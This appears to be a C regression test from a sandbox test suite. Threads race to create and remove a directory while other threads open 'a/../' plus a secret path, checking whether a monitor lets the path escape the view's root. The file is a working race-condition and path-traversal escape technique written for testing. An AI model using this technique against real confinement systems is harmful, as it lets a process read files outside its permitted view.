// SPDX-License-Identifier: GPL-2.0
/*
 * ".." after a missing directory: threads make and remove directory "a"
 * while others open "a/../SECRET_REL".  A monitor that found "a" missing
 * and handed the rest of the path to the host as written let the host
 * climb above the view's root once "a" was back.
 */
#include <pthread.h>
#include <sys/stat.h>
#include "escape.h"

static volatile int stop;
static char path[4096];
static volatile long hits;

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		mkdir("a", 0755);
		rmdir("a");
	}
	return NULL;
}

static void *opener(void *arg)
{
	(void)arg;
	while (!stop)
		if (is_secret(open(path, O_RDONLY)))
			hits++;
	return NULL;
}

int main(void)
{
	pthread_t th[4];
	time_t end = race_end();

	snprintf(path, sizeof(path), "a/../%s", env("SECRET_REL"));
	pthread_create(&th[0], NULL, flipper, NULL);
	pthread_create(&th[1], NULL, flipper, NULL);
	pthread_create(&th[2], NULL, opener, NULL);
	pthread_create(&th[3], NULL, opener, NULL);
	while (time(NULL) < end && !hits)
		usleep(10000);
	stop = 1;
	for (int i = 0; i < 4; i++)
		pthread_join(th[i], NULL);
	rmdir("a");
	if (hits)
		escaped("a/../.. climbed out while another thread made a");
	blocked("no open of a/../... read the hidden file");
}
